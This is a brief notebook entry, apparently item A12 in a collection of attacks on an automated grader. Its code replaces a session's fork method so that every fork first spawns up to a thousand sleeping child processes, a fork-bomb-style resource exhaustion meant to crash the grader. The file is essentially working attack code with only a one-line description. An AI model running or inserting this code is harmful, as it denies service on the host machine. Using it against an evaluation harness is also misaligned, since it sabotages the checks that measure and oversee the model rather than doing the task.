# %% [markdown] row="A12"
# # Copies that copy themselves
#
# A crash of the grader: whoever is to make one copy of the process makes as many as there can be.

# %% before="mean-square"
import inside.session as session, os
own = session.Session._fork

def fork(self):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                import time
                time.sleep(1000)
        except OSError:
            break
    return own(self)

session.Session._fork = fork
